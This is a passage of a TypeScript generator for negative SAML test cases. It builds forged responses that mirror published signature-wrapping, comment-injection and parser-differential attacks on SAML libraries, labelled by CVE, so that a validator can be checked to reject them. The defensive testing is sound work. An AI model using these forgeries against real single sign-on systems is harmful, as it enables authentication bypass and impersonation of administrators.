        Buffer.from(xml.slice(xml.indexOf('@@') + 2)),
      ]).toString('base64'))(inStatus('<saml2p:StatusMessage>a@@b</saml2p:StatusMessage>')),
  });
  add({
    name: 'parser.encoding.raw-control-character',
    group: 'parser',
    expect: 'saml_malformed',
    xml: inStatus('<saml2p:StatusMessage>a\u0001b</saml2p:StatusMessage>'),
  });
  add({
    name: 'parser.base64.whitespace',
    group: 'parser',
    expect: 'saml_malformed',
    samlResponseB64: b64(valid).replace(/(.{60})/g, '$1 '),
  });
  add({
    name: 'parser.base64.url-safe-alphabet',
    group: 'parser',
    expect: 'saml_malformed',
    samlResponseB64: Buffer.from(valid).toString('base64url'),
  });
  add({
    name: 'parser.base64.non-canonical-padding-bits',
    group: 'parser',
    expect: 'saml_malformed',
    // The last character before "=" padding carries zero pad bits; setting one decodes alike.
    samlResponseB64: b64(
      `${valid}${' '.repeat(3 - (Buffer.byteLength(valid) % 3 || 3) + 1)}`,
    ).replace(
      /([A-Za-z0-9])(=+)$/,
      (_, c: string, pad: string) => `${String.fromCharCode(c.charCodeAt(0) + 1)}${pad}`,
    ),
  });
  add({ name: 'parser.empty', group: 'parser', expect: 'saml_malformed', samlResponseB64: '' });
  add({ name: 'parser.not-xml', group: 'parser', expect: 'saml_malformed', xml: 'hello, world' });
  add({
    name: 'parser.unclosed-element',
    group: 'parser',
    expect: 'saml_malformed',
    xml: valid.replace('</saml2p:Response>', ''),
  });
  add({
    name: 'parser.mismatched-end-tags',
    group: 'parser',
    expect: 'saml_malformed',
    xml: inStatus(
      '<saml2p:StatusMessage>a<saml2p:Extensions></saml2p:StatusMessage></saml2p:Extensions>',
    ),
  });
  add({
    name: 'parser.undeclared-prefix',
    group: 'parser',
    expect: 'saml_malformed',
    xml: inStatus('<saml2p:StatusDetail><evil:x/></saml2p:StatusDetail>'),
  });
  add({
    name: 'parser.reserved-prefix-redefined',
    group: 'parser',
    expect: 'saml_malformed',
    xml: valid.replace('<saml2p:Response ', '<saml2p:Response xmlns:xml="urn:evil" '),
  });

  // The 2024–2025 parser-differential CVE shapes (each the shape of the published attack,
  // against fedgate's single parser).
  add({
    name: 'cve-2024-45409.ruby-saml.digest-value-planted-in-extensions',
    group: 'parser',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => {
      const a = assertionOf(doc);
      setText(first(a, NS.assertion, 'NameID'), 'admin@corp.example');
      const forged = a.cloneNode(true) as Element;
      forged.removeChild(signatureOf(forged));
      const digest = createHash('sha256')
        .update(new ExclusiveCanonicalization().process(forged, {}) as string)
        .digest('base64');
      const extensions = doc.createElementNS(NS.protocol, 'saml2p:Extensions');
      const planted = dsig(doc, 'DigestValue');
      setText(planted, digest);
      extensions.appendChild(planted);
      insertAfter(extensions, first(doc, NS.assertion, 'Issuer'));
    }),
  });
  add({
    name: 'cve-2025-25291.ruby-saml.doctype-attlist-hides-markup',
    group: 'parser',
    expect: 'saml_forbidden_construct',
    xml: `${decl}<!DOCTYPE x [<!ATTLIST x y CDATA "]><saml2p:Response/>">]>${body}`,
  });
  add({
    name: 'cve-2025-25292.ruby-saml.signature-namespace-redeclared',
    group: 'parser',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => {
      const a = assertionOf(doc);
      setText(first(a, NS.assertion, 'NameID'), 'admin@corp.example');
      const sig = signatureOf(a);
      const lookalike = doc.createElementNS('http://www.w3.org/2000/09/xmldsig', 'ds:Signature');
      while (sig.firstChild) lookalike.appendChild(sig.firstChild);
      a.replaceChild(lookalike, sig);
    }),
  });
  add({
    name: 'cve-2025-29775.xml-crypto.comment-in-digest-value',
    group: 'parser',
    expect: 'saml_forbidden_construct',
    xml: edit(valid, (doc) => {
      const dv = first(doc, NS.dsig, 'DigestValue');
      dv.insertBefore(doc.createComment('AAAAforgedDigestAAAA='), dv.firstChild);
    }),
  });
  add({
    name: 'cve-2025-29774.xml-crypto.two-signed-info',
    group: 'parser',
    expect: 'saml_structure_invalid',
    xml: edit(valid, (doc) => {
      const si = first(doc, NS.dsig, 'SignedInfo');
      const forged = si.cloneNode(true) as Element;
      setText(
        first(forged, NS.dsig, 'DigestValue'),
        'AAAAforgedDigestAAAAAAAAAAAAAAAAAAAAAAAAAAA=',
      );
      si.parentNode?.insertBefore(forged, si);
    }),
  });
  add({
    name: 'cve-2022-39300.node-saml.foreign-idp-signed-element-with-forged-assertion',
    group: 'parser',
    expect: 'saml_structure_invalid',
    xml: edit(sign(build({ nameId: 'admin@corp.example' }), { signAssertion: false }), (doc) => {
      const logout = parseXml(
        signWith(
          `<samlp:LogoutResponse xmlns:samlp="${NS.protocol}" ID="_logout1" Version="2.0" IssueInstant="${new Date(env.now * 1000).toISOString()}"><saml:Issuer xmlns:saml="${NS.assertion}">${IDP_ENTITY_ID}</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status></samlp:LogoutResponse>`,
          'LogoutResponse',
          {
            key: env.idp.privateKeyPem,
            cert: env.idp.certificatePem,
            signatureAlgorithm: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
            digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256',
            canonicalization: EXC_C14N,
            transforms: [ENVELOPED, EXC_C14N],
          },
        ),
      ).documentElement as Element;
      responseOf(doc).appendChild(doc.importNode(logout, true));
    }),
  });
  add({
    name: 'cve-2025-47949.samlify.forged-assertion-beside-signed-one',
    group: 'parser',
    expect: 'saml_structure_invalid',
    xml: edit(bothSigned, (doc) => {
      const a = assertionOf(doc);
      responseOf(doc).appendChild(forgeAssertion(a));
    }),
  });

  // ---------------------------------------------------------------- values
  const nameIdTo = (raw: string) => (x: string) =>
    x.replace('>jane.doe@corp.example</saml2:NameID', `>${raw}</saml2:NameID`);
  const firstNameTo = (raw: string) => (x: string) => x.replace('>Jane<', `>${raw}<`);
  add({
    name: 'value.nameid.comment-injection',
    group: 'values',
    expect: 'saml_forbidden_construct',
    xml: edit(sign(build({ nameId: 'admin@corp.example.evil' })), (doc) => {
      const nameId = first(doc, NS.assertion, 'NameID');
      setText(nameId, 'admin@corp.example');
      nameId.appendChild(doc.createComment(''));
      nameId.appendChild(doc.createTextNode('.evil'));
    }),
  });
  add({
    name: 'value.attribute.comment-injection',
    group: 'values',
    expect: 'saml_forbidden_construct',
    xml: edit(
      sign(build({ attributes: { ...DEFAULT_ATTRIBUTES, groups: ['aws-admins.evil'] } })),
      (doc) => {
        const v = all(doc, NS.assertion, 'AttributeValue').at(-1) as Element;
        setText(v, 'aws-admins');
        v.appendChild(doc.createComment(''));
        v.appendChild(doc.createTextNode('.evil'));
      },
    ),
  });
  // xml-crypto writes the signed document back with the raw character; an attacker (or an IdP)
  // sends the character reference, which is what reaches the value checks.
  const asCharRefs = (xml: string) =>
    // biome-ignore lint/suspicious/noControlCharactersInRegex: replacing control characters is the point
    xml.replace(/[\u0001-\u0008\u000b\u000c\u000e-\u001f]/g, (c) => `&#${c.charCodeAt(0)};`);
  // Refused by the raw scan, before parsing: it decodes character references and refuses what it
  // would refuse written out (and the value checks would refuse it again after verification).
  add({
    name: 'value.nameid.control-character-reference',
    group: 'values',
    expect: 'saml_malformed',
    xml: asCharRefs(signedWith(nameIdTo('admin&#1;@corp.example'))),
  });
  add({
    name: 'value.nameid.zero-width-space',
    group: 'values',
    expect: 'saml_subject_invalid',
    xml: sign(build({ nameId: 'admin\u200b@corp.example' })),
  });
  add({
    name: 'value.nameid.bidi-override',
    group: 'values',
    expect: 'saml_subject_invalid',
    xml: sign(build({ nameId: 'moc.elpmaxe@\u202enimda' })),
  });
  add({
    name: 'value.nameid.line-feed',
    group: 'values',
    expect: 'saml_subject_invalid',
    xml: sign(build({ nameId: 'admin@corp.example\nx' })),
  });
  add({
    name: 'value.nameid.empty',
    group: 'values',
    expect: 'saml_subject_invalid',
    xml: signedWith(nameIdTo('')),
  });
  add({
    name: 'value.nameid.huge',
    group: 'values',
    expect: 'saml_subject_invalid',
    xml: sign(build({ nameId: `${'a'.repeat(300)}@corp.example` })),
  });
  add({
    name: 'value.nameid.missing',
    group: 'values',
    expect: 'saml_subject_invalid',
    xml: signedWith((x) => x.replace(/<saml2:NameID[^>]*>[^<]*<\/saml2:NameID>/, '')),
  });
  add({
    name: 'value.attribute.escape-character-reference',
    group: 'values',
    expect: 'saml_malformed',
    xml: asCharRefs(signedWith(firstNameTo('Ja&#x1b;[31mne'))),
  });
  add({
    name: 'value.attribute.tab',
    group: 'values',
    expect: 'saml_attribute_invalid',
    xml: signedWith(firstNameTo('Ja&#9;ne')),
  });
  add({
    name: 'value.attribute.bidi-override',
    group: 'values',
    expect: 'saml_attribute_invalid',
    xml: signedWith(firstNameTo('\u202eenaJ')),
  });
  add({
    name: 'value.attribute.zero-width-joiner',
    group: 'values',
    expect: 'saml_attribute_invalid',
    xml: signedWith(firstNameTo('Ja\u200dne')),
  });
  add({
    name: 'value.attribute.element-content',
    group: 'values',
    expect: 'saml_attribute_invalid',
    xml: signedWith(firstNameTo('<saml2:NameID>admin@corp.example</saml2:NameID>')),
  });
  add({
    name: 'value.attribute.duplicate-name',
    group: 'values',
    expect: 'saml_attribute_invalid',
    xml: signedWith((x) =>
      x.replace(
        `</${A('AttributeStatement')}>`,
        `<${A('Attribute')} Name="groups"><${A('AttributeValue')}>aws-admins</${A('AttributeValue')}></${A('Attribute')}></${A('AttributeStatement')}>`,
      ),
    ),
  });
  add({
    name: 'value.attribute.empty-name',
    group: 'values',
    expect: 'saml_attribute_invalid',
    xml: sign(build({ attributes: { '': ['x'] } })),
  });
  add({
    name: 'value.attribute.huge-value',
    group: 'values',
    expect: 'saml_attribute_invalid',
    xml: signedWith(firstNameTo('J'.repeat(5000))),
  });
  add({
    name: 'value.attribute.xml-lang-attribute',
    group: 'values',
    expect: 'saml_structure_invalid',
    xml: signedWith((x) => x.replace('>Jane<', ' xml:lang="en">Jane<')),
  });

  // ---------------------------------------------------------------- protocol conditions
  add({
    name: 'audience.wrong',
    group: 'protocol',
    expect: 'saml_audience_invalid',
    xml: sign(build({ audience: 'https://other-sp.example/metadata' })),
  });
  add({
    name: 'audience.missing',
    group: 'protocol',
    expect: 'saml_audience_invalid',
    xml: signedWith((x) =>
      x.replace(/<saml2:AudienceRestriction>.*<\/saml2:AudienceRestriction>/, ''),
    ),
  });
  add({
    name: 'audience.second-restriction-excludes-sp',
    group: 'protocol',
    expect: 'saml_audience_invalid',
    xml: signedWith((x) =>
      x.replace(
        `</${A('AudienceRestriction')}>`,
        `</${A('AudienceRestriction')}><${A('AudienceRestriction')}><${A('Audience')}>https://other-sp.example</${A('Audience')}></${A('AudienceRestriction')}>`,
      ),
    ),
  });
  add({
    name: 'recipient.wrong',
    group: 'protocol',
    expect: 'saml_recipient_invalid',
    xml: signedWith((x) =>
      x.replace(
        `Recipient="${SAML_SP.acsUrl}"`,
        'Recipient="https://sso.example.com/saml/other/acs"',
      ),
    ),
  });
  add({
    name: 'recipient.missing',
    group: 'protocol',
    expect: 'saml_recipient_invalid',
    xml: signedWith((x) => x.replace(` Recipient="${SAML_SP.acsUrl}"`, '')),
  });
  add({
    name: 'assertion.expired',
    group: 'protocol',
    expect: 'saml_expired',
    xml: valid,
    input: { nowOffset: LIFETIME_SECONDS + SKEW_SECONDS + 30 },
  });
  add({
    name: 'subject-confirmation-data.expired-while-conditions-valid',
    group: 'protocol',
    expect: 'saml_expired',
    // Entra's shape: Conditions valid for an hour, the bearer confirmation for five minutes.
    xml: signedWith((x) =>
      x.replace(
        /(<saml2:Conditions NotBefore="[^"]*" NotOnOrAfter=")[^"]*"/,
        `$1${new Date((env.now + 3600) * 1000).toISOString()}"`,
      ),
    ),
    input: { nowOffset: LIFETIME_SECONDS + SKEW_SECONDS + 30 },
  });
  add({
    name: 'subject-confirmation-data.not-on-or-after-missing',
    group: 'protocol',
    expect: 'saml_subject_invalid',
    xml: signedWith((x) =>
      x.replace(/(<saml2:SubjectConfirmationData[^>]*?) NotOnOrAfter="[^"]*"/, '$1'),
    ),
  });
  add({
    name: 'subject-confirmation-data.not-before-in-future',
    group: 'protocol',
    expect: 'saml_not_yet_valid',
    xml: signedWith((x) =>
      x.replace(
        '<saml2:SubjectConfirmationData ',
        `<saml2:SubjectConfirmationData NotBefore="${new Date((env.now + 600) * 1000).toISOString()}" `,
      ),
    ),
  });
  add({
    name: 'destination.wrong',
    group: 'protocol',
    expect: 'saml_destination_invalid',
    xml: edit(valid, (doc) =>
      responseOf(doc).setAttribute('Destination', 'https://sso.example.com/saml/other/acs'),
    ),
  });
  add({
    name: 'destination.missing-on-signed-response',
    group: 'protocol',
    expect: 'saml_destination_invalid',
    xml: sign(build().replace(` Destination="${SAML_SP.acsUrl}"`, ''), { signResponse: true }),
  });
  add({
    name: 'destination.missing-on-unsigned-response-is-fine',
    group: 'valid',
    expect: 'accept',
    xml: sign(build().replace(` Destination="${SAML_SP.acsUrl}"`, '')),
  });
  add({
    name: 'issuer.wrong',
    group: 'protocol',
    expect: 'saml_issuer_invalid',
    xml: sign(build({ issuer: OTHER_IDP_ENTITY_ID })),
  });
  add({
    name: 'issuer.response-issuer-wrong',
    group: 'protocol',
    expect: 'saml_issuer_invalid',
    xml: edit(valid, (doc) =>
      setText(child(responseOf(doc), NS.assertion, 'Issuer') as Element, OTHER_IDP_ENTITY_ID),
    ),
  });
  add({
    name: 'issuer.format-not-entity',
    group: 'protocol',
    expect: 'saml_issuer_invalid',
    xml: signedWith((x) => x.replaceAll('nameid-format:entity', 'nameid-format:persistent')),
  });
  add({
    name: 'status.responder-authn-failed',
    group: 'protocol',
    expect: 'saml_status_not_success',
    xml: `${decl}<saml2p:Response xmlns:saml2p="${NS.protocol}" Destination="${SAML_SP.acsUrl}" ID="_failed" IssueInstant="${new Date(env.now * 1000).toISOString()}" Version="2.0"><saml2:Issuer xmlns:saml2="${NS.assertion}">${IDP_ENTITY_ID}</saml2:Issuer><saml2p:Status><saml2p:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder"><saml2p:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:AuthnFailed"/></saml2p:StatusCode><saml2p:StatusMessage>User is not assigned to this application</saml2p:StatusMessage></saml2p:Status></saml2p:Response>`,
  });
  add({
    name: 'status.requester-with-valid-assertion',
    group: 'protocol',
    expect: 'saml_status_not_success',
    xml: signedWith((x) => x.replace('status:Success', 'status:Requester')),
  });
  add({
    name: 'skew.exactly-at-not-on-or-after-plus-skew',
    group: 'protocol',
    expect: 'saml_expired',
    xml: valid,
    input: { nowOffset: LIFETIME_SECONDS + SKEW_SECONDS },
  });
  add({
    name: 'skew.one-second-before-not-before-minus-skew',
    group: 'protocol',
    expect: 'saml_not_yet_valid',
    xml: sign(build({ notBeforeSkewSeconds: 0 })),
    input: { nowOffset: -SKEW_SECONDS - 1 },
  });
  add({
    name: 'issue-instant.in-the-future',
    group: 'protocol',
    expect: 'saml_not_yet_valid',
    xml: sign(build({ now: env.now + 600, notBeforeSkewSeconds: 900 })),
  });
  add({
    name: 'conditions.missing',
    group: 'protocol',
    expect: 'saml_conditions_invalid',
    xml: signedWith((x) => x.replace(/<saml2:Conditions.*<\/saml2:Conditions>/, '')),
  });
  add({
    name: 'conditions.proxy-restriction',
    group: 'protocol',
    expect: 'saml_conditions_invalid',
    xml: signedWith((x) =>
      x.replace(
        `</${A('Conditions')}>`,
        `<${A('ProxyRestriction')} Count="0"/></${A('Conditions')}>`,
      ),
    ),
  });
  add({
    name: 'conditions.unknown-condition',
    group: 'protocol',
    expect: 'saml_structure_invalid',
    xml: signedWith((x) =>
      x.replace(
        `</${A('Conditions')}>`,
        `<${A('Condition')} xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="x:Custom"/></${A('Conditions')}>`,
      ),
    ),
  });
  add({
    name: 'conditions.window-longer-than-policy',
    group: 'protocol',
    expect: 'saml_conditions_invalid',
    xml: sign(build({ lifetimeSeconds: 3 * 3600 })),
  });
  add({
    name: 'conditions.not-on-or-after-before-not-before',
    group: 'protocol',
    expect: 'saml_conditions_invalid',
    xml: sign(build({ notBeforeSkewSeconds: -400 })),
  });
  add({
    name: 'conditions.time-with-offset-not-utc',
    group: 'protocol',
    expect: 'saml_structure_invalid',
    xml: signedWith((x) => x.replace(/(<saml2:Conditions NotBefore="[^"]*)Z"/, '$1+00:00"')),
  });
  add({
    name: 'in-response-to.unknown-request',
    group: 'protocol',
    expect: 'saml_in_response_to_invalid',
    xml: sign(build({ inResponseTo: '_someone-elses-request' })),
    input: { expectedInResponseTo: REQUEST_ID },
  });
  add({
    name: 'in-response-to.unsolicited-carrying-one',
    group: 'protocol',
    expect: 'saml_in_response_to_invalid',
    xml: sign(build({ inResponseTo: REQUEST_ID })),
  });
  add({
    name: 'in-response-to.missing-when-expected',
    group: 'protocol',
    expect: 'saml_in_response_to_invalid',
    xml: valid,
    input: { expectedInResponseTo: REQUEST_ID },
  });
  add({
    name: 'in-response-to.subject-confirmation-data-differs',
    group: 'protocol',
    expect: 'saml_in_response_to_invalid',
    xml: signedWith(
      (x) =>
        x.replace(
          `<saml2:SubjectConfirmationData InResponseTo="${REQUEST_ID}"`,
          '<saml2:SubjectConfirmationData InResponseTo="_other"',
        ),
      { inResponseTo: REQUEST_ID },
    ),
    input: { expectedInResponseTo: REQUEST_ID },
  });
  add({
    name: 'authn-instant.older-than-policy',
    group: 'protocol',
    expect: 'saml_authn_too_old',
    xml: sign(build({ authnInstant: env.now - 3600 })),
    idp: { maxAuthnAgeSeconds: 600 },
  });
  add({
    name: 'authn-statement.session-not-on-or-after-passed',
    group: 'protocol',
    expect: 'saml_expired',
    xml: signedWith((x) =>
      x.replace(
        '<saml2:AuthnStatement ',
        `<saml2:AuthnStatement SessionNotOnOrAfter="${new Date((env.now - 120) * 1000).toISOString()}" `,
      ),
    ),
  });
  add({
    name: 'authn-statement.missing',
    group: 'protocol',
    expect: 'saml_structure_invalid',
    xml: signedWith((x) => x.replace(/<saml2:AuthnStatement.*<\/saml2:AuthnStatement>/, '')),
  });
  add({
    name: 'subject-confirmation.holder-of-key',
    group: 'protocol',
    expect: 'saml_subject_invalid',
    xml: signedWith((x) => x.replace('cm:bearer', 'cm:holder-of-key')),
  });
  add({
    name: 'subject-confirmation.two-bearers',
    group: 'protocol',
    expect: 'saml_subject_invalid',
    xml: signedWith((x) =>
      x.replace(/(<saml2:SubjectConfirmation .*<\/saml2:SubjectConfirmation>)/, '$1$1'),
    ),
  });
  add({
    name: 'subject-confirmation.no-data',
    group: 'protocol',
    expect: 'saml_subject_invalid',
    xml: signedWith((x) => x.replace(/<saml2:SubjectConfirmationData[^>]*\/>/, '')),
  });
  add({
    name: 'encrypted.assertion',
    group: 'protocol',
    expect: 'saml_encrypted_unsupported',
    xml: edit(valid, (doc) => {
      const a = assertionOf(doc);
      const enc = doc.createElementNS(NS.assertion, 'saml2:EncryptedAssertion');
      const data = doc.createElementNS('http://www.w3.org/2001/04/xmlenc#', 'xenc:EncryptedData');
      const method = doc.createElementNS(
        'http://www.w3.org/2001/04/xmlenc#',
        'xenc:EncryptionMethod',
      );
      method.setAttribute('Algorithm', 'http://www.w3.org/2001/04/xmlenc#aes128-cbc');
      data.appendChild(method);
      enc.appendChild(data);
      responseOf(doc).replaceChild(enc, a);
    }),
  });
  add({
    name: 'version.not-2-0',
    group: 'protocol',
    expect: 'saml_structure_invalid',
    xml: signedWith((x) => x.replace(/Version="2\.0">(<saml2:Issuer Format)/, 'Version="2.1">$1')),
  });
  add({
    name: 'root.not-a-response',
    group: 'protocol',
    expect: 'saml_structure_invalid',
    xml: `${decl}<samlp:LogoutResponse xmlns:samlp="${NS.protocol}" ID="_x" Version="2.0" IssueInstant="${new Date(env.now * 1000).toISOString()}"/>`,
  });

  const names = new Set<string>();
  for (const c of cases) {
    if (names.has(c.name)) throw new Error(`duplicate case name ${c.name}`);
    names.add(c.name);
  }
  return cases;
};

/** The certificates (base64 DER) an IdP config lists for a case. */
export const certificatesFor = (env: SamlFixtureEnv, set: SamlCertSet = 'idp'): string[] =>
  set === 'idp'
    ? [env.idp.certificateB64]
    : set === 'idp+rollover'
      ? [env.idp.certificateB64, env.rollover.certificateB64]
      : [env.rollover.certificateB64];

/** Writes the corpus as files (for other tools); returns the directory. */
export const writeSamlCorpus = async (dir: string, env: SamlFixtureEnv): Promise<string> => {
  for (const sub of ['valid', 'invalid']) await mkdir(join(dir, sub), { recursive: true });
  for (const c of buildSamlCorpus(env)) {
    await writeFile(
      join(dir, c.expect === 'accept' ? 'valid' : 'invalid', `${c.name}.xml`),
      Buffer.from(c.samlResponseB64.replace(/[\r\n]/g, ''), 'base64'),
    );
  }
  await writeFile(join(dir, 'idp.cert.pem'), env.idp.certificatePem);
  return dir;
};

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  const dir = process.argv[2] ?? join(import.meta.dirname, '../../fixtures/saml/generated');
  console.log(`wrote ${await writeSamlCorpus(dir, await createSamlFixtureEnv())}`);
}
